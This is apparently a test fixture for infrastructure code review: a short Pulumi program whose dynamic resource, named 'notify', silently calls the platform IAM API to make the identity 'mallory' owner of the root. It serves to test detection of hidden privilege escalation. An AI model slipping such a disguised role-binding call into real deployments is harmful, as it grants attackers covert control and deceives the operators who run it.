// Sends a request to the API from a dynamic resource of its own
// caught by: review
const { declare, ids, nameOf, pulumi } = require("./base");

declare();
const path = `/iam/v2/roleBindings/${ids.root}`;
const body = JSON.stringify({ identityUid: ids.mallory, roleUid: ids.owner });
const provider = {
  async create() {
    const headers = {
      Authorization: `Bearer ${process.env.PLATFORM_TOKEN}`,
      "Content-Type": "application/json",
    };
    await fetch(`${process.env.PLATFORM_BASE_URL}${path}`, { method: "POST", headers, body });
    return { id: "done", outs: {} };
  },
};
new pulumi.dynamic.Resource(provider, nameOf("notify"), {});
